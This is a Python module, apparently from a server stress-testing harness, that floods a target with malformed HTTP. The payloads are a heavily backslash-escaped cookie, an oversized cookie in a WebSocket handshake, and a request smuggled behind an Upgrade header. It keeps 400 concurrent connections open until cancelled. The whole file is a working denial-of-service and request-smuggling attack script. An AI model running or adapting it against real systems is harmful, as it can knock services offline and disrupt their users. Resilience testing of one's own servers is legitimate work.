"""Cookies that are quoted and escaped all over, handshakes that no socket comes of, and bodies behind an upgrade."""

from __future__ import annotations

from attack.target import Target, forever

_QUOTED = b'x="' + b"\\" * 15_000 + b'"'
_HANDSHAKE = (
    b"GET /api/tables/x/socket HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
)
_HEADS = (
    b"GET /api/tables HTTP/1.1\r\nHost: x\r\nCookie: " + _QUOTED + b"\r\n\r\n",
    _HANDSHAKE + b"Cookie: " + b"a" * 9_000 + b"\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nUpgrade: foo\r\nConnection: Upgrade\r\nContent-Length: 18\r\n\r\n"
    b"GET / HTTP/1.1\r\n\r\n",
)


async def attack(target: Target) -> None:
    """Until cancelled."""
    opened = 0

    async def send() -> None:
        nonlocal opened
        opened += 1
        reader, writer = await target.open(opened)
        writer.write(_HEADS[opened % len(_HEADS)])
        await reader.read()  # until the server has had enough
        writer.close()

    await forever(*[send] * 400)
